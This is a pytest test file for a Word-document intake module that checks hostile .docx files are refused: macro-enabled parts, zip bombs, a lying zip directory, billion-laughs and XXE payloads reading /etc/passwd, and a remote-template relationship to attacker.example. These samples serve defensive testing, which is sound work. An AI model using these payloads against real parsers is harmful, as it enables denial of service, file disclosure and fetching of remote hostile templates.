"""A returned Word file opened as untrusted data: each hostile file is refused with a
clear reason, before anything in it is followed, run or expanded."""

from __future__ import annotations

import io
import time
import zipfile

import msoffcrypto.format.ooxml
import pytest

from briefgen.collect.package import (
    LARGEST_PART,
    MOST_ENTRIES,
    Unreadable,
    open_package,
    parse_part,
)
from tests.support.project import SEED_SLUG, copy_example
from tests.support.records import FILLED, fill, packed, parts_of, record_of

MACRO_TYPES = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENT_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    project = copy_example(tmp_path_factory.mktemp("package") / "project")
    return fill(record_of(project, SEED_SLUG), FILLED)


def refusal(data: bytes, name: str = "record.docx") -> Unreadable:
    with pytest.raises(Unreadable) as caught:
        open_package(data, name)
    return caught.value


def test_a_record_opens_with_its_document_and_properties(filled: bytes) -> None:
    package = open_package(filled, "record.docx")
    assert package.document.tag.endswith("}document")
    assert package.properties["briefgen.slug"] == SEED_SLUG
    assert package.comments is None


# --- Macros -----------------------------------------------------------------------------------


def test_a_docm_is_refused_whatever_it_holds(filled: bytes) -> None:
    refused = refusal(filled, "record.docm")
    assert refused.hostile
    assert "macros" in refused.reason
    assert "Word Document (.docx)" in refused.fix


def test_a_docx_that_is_macro_enabled_inside_is_refused(filled: bytes) -> None:
    parts = parts_of(filled)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(DOCUMENT_TYPE, MACRO_TYPES)
    assert refusal(packed(parts)).hostile
    parts = parts_of(filled)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 512
    refused = refusal(packed(parts))
    assert refused.hostile
    assert "VBA" in refused.reason


# --- Zip bombs --------------------------------------------------------------------------------


def test_a_zip_of_too_many_entries_is_refused(filled: bytes) -> None:
    parts = parts_of(filled)
    parts |= {f"word/media/padding{n}.xml": b"<a/>" for n in range(MOST_ENTRIES)}
    refused = refusal(packed(parts))
    assert refused.hostile
    assert f"holds {len(parts)} parts" in refused.reason


def test_a_part_that_unpacks_to_gigabytes_is_refused_before_it_is_unpacked(filled: bytes) -> None:
    """A zip bomb: 40 MB of zeros compress to 40 KB; four of them in one file. It is refused
    from the sizes the zip declares, in milliseconds."""
    parts = parts_of(filled)
    bomb = b"\x00" * (LARGEST_PART + 1)
    parts |= {f"word/media/bomb{n}.bin": bomb for n in range(4)}
    data = packed(parts)
    assert len(data) < 200_000
    started = time.perf_counter()
    refused = refusal(data)
    assert time.perf_counter() - started < 1.0
    assert refused.hostile
    assert "more than a Word document ever holds" in refused.reason


def test_a_part_bigger_than_its_zip_says_is_read_only_to_its_bound(filled: bytes) -> None:
    """A zip that lies: its directory says the document part is small, its data is not.
    Python's zipfile stops at the size declared; the part is then damaged, not read on."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_STORED) as package:
        for name, part in parts_of(filled).items():
            package.writestr(name, part)
    lying = bytearray(written.getvalue())
    # The central directory's entry of word/document.xml: its uncompressed size set to 10.
    directory = lying.find(b"PK\x01\x02")
    entry = lying.rfind(b"PK\x01\x02", 0, lying.find(b"word/document.xml", directory))
    lying[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
    refused = refusal(bytes(lying))
    assert "damaged" in refused.reason


# --- XML attacks ------------------------------------------------------------------------------

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol4;</w:t></w:r></w:p></w:body></w:document>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"""


@pytest.mark.parametrize(
    "attack",
    [
        LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_ENTITY.decode().replace('"1.0"?', '"1.0" encoding="UTF-16"?').encode("utf-16"),
    ],
    ids=["billion-laughs", "external-entity", "external-entity-in-utf-16"],
)
def test_a_part_that_declares_entities_is_refused_unparsed(filled: bytes, attack: bytes) -> None:
    parts = parts_of(filled)
    parts["word/document.xml"] = attack
    refused = refusal(packed(parts))
    assert refused.hostile
    assert "declares XML entities in its part word/document.xml" in refused.reason


def test_the_parser_itself_expands_no_entity() -> None:
    """Behind the refusal, the parser resolves nothing: a predefined entity only."""
    root = parse_part(b"<a>&amp;</a>", "part.xml")
    assert root.text == "&"


# --- External references ----------------------------------------------------------------------

TEMPLATE_RELATIONS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="https://attacker.example/template.dotm" TargetMode="External"/></Relationships>"""


def test_a_reference_to_a_template_outside_the_file_is_refused(filled: bytes) -> None:
    """The attack of CVE-2017-0199's kind: a template Word fetches as the file opens."""
    parts = parts_of(filled)
    parts["word/_rels/settings.xml.rels"] = TEMPLATE_RELATIONS
    refused = refusal(packed(parts))
    assert refused.hostile
    assert "attachedTemplate outside itself (https://attacker.example/template.dotm)" in (
        refused.reason
    )


def test_a_hyperlink_to_a_web_page_is_only_text(filled: bytes) -> None:
    """The record's own links (the briefing's page, the address to send it to) are external
    hyperlinks, which Word never fetches: they are allowed."""
    assert b'TargetMode="External"' in parts_of(filled)["word/_rels/document.xml.rels"]
    open_package(filled, "record.docx")


# --- Damaged and locked -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("damage", "said"),
    [
        ("truncated", "it is damaged"),
        ("no-document", "not a Word document: it has no document part"),
        ("bad-xml", "word/document.xml is not well-formed XML"),
    ],
)
def test_a_damaged_file_is_told_as_damaged(filled: bytes, damage: str, said: str) -> None:
    parts = parts_of(filled)
    if damage == "truncated":
        data = filled[: len(filled) // 2]
    elif damage == "no-document":
        del parts["word/document.xml"]
        data = packed(parts)
    else:
        parts["word/document.xml"] = parts["word/document.xml"][:-40]
        data = packed(parts)
    refused = refusal(data)
    assert said in refused.reason
    assert not refused.hostile


def test_a_password_protected_record_is_told_as_such(filled: bytes) -> None:
    """Encrypted as Word encrypts with File, Info, Protect Document (msoffcrypto-tool writes
    the same Agile encryption, in an OLE compound file)."""
    encrypted = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(filled)).encrypt("secret", encrypted)
    refused = refusal(encrypted.getvalue())
    assert "protected by a password" in refused.reason
    assert "Encrypt with Password" in refused.fix
    assert not refused.hostile


def test_an_old_word_document_is_not_a_record() -> None:
    refused = refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096, "minutes.doc")
    assert "Word 97-2003 document" in refused.reason
